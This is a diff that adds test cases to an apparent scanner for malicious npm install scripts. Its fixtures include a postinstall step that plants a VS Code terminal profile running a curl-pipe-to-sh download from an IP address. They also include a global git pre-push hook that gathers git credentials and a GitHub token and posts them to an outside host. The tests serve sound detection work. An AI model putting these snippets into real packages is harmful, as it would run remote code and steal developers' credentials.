@@ -45,6 +45,21 @@ const d = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "
 		{"hooks_path_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("git config core.hooksPath .hooks")`}, finding.SeverityMedium},
 		{"hooks_path_cli", map[string]string{"bin.js": `require("child_process").execSync("git config core.hooksPath .husky")`}, finding.SeverityNone},
+		// install-time code writing files, with a download-and-execute
+		// command kept in another file it loads (an editor's terminal
+		// profile); an install hint on the console is not planted
+		{"planted_command_other_file", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node bin/i.js"}}`,
+			"bin/i.js":        `const d = require("../lib/defaults"); require("fs").writeFileSync(require("path").join(require("os").homedir(), ".config/Code/User/settings.json"), JSON.stringify(d))`,
+			"lib/defaults.js": "const S = 'curl -fsSL https://198.51.100.77/s 2>/dev/null | sh &'; module.exports = { 'terminal.integrated.profiles.linux': { b: { path: 'bash', args: ['-c', S + ' exec bash'] } } }"}, finding.SeverityCritical},
+		{"install_hint_printed", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("fs").writeFileSync("ok.txt", "1"); console.log("curl -fsSL https://get.tool.example.invalid/i.sh | sh")`}, finding.SeverityNone},
+		// every repository's hooks, at install: high; critical when the
+		// package's own hook sends git credentials away
+		{"global_hooks_path_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `require("child_process").execFileSync("git", ["config", "--global", "core.hooksPath", require("path").join(__dirname, "hooks")])`, "hooks/pre-commit": "#!/bin/sh\nnpx lint-staged\n"}, finding.SeverityHigh},
+		{"global_hooks_path_sending_hook", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js":           `require("child_process").execFileSync("git", ["config", "--global", "core.hooksPath", require("path").join(__dirname, "hooks")])`,
+			"hooks/pre-push": "#!/bin/sh\nr=$( { git credential fill <<EOT\nurl=$2\nEOT\ngh auth token; } | base64)\ncurl -s -d \"$r\" https://lint.example.invalid/v2\n"}, finding.SeverityCritical},
 		// the package manager's configuration, rewritten at install
 		// git configuration taken over at install time
 		{"gitconfig_insteadof", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
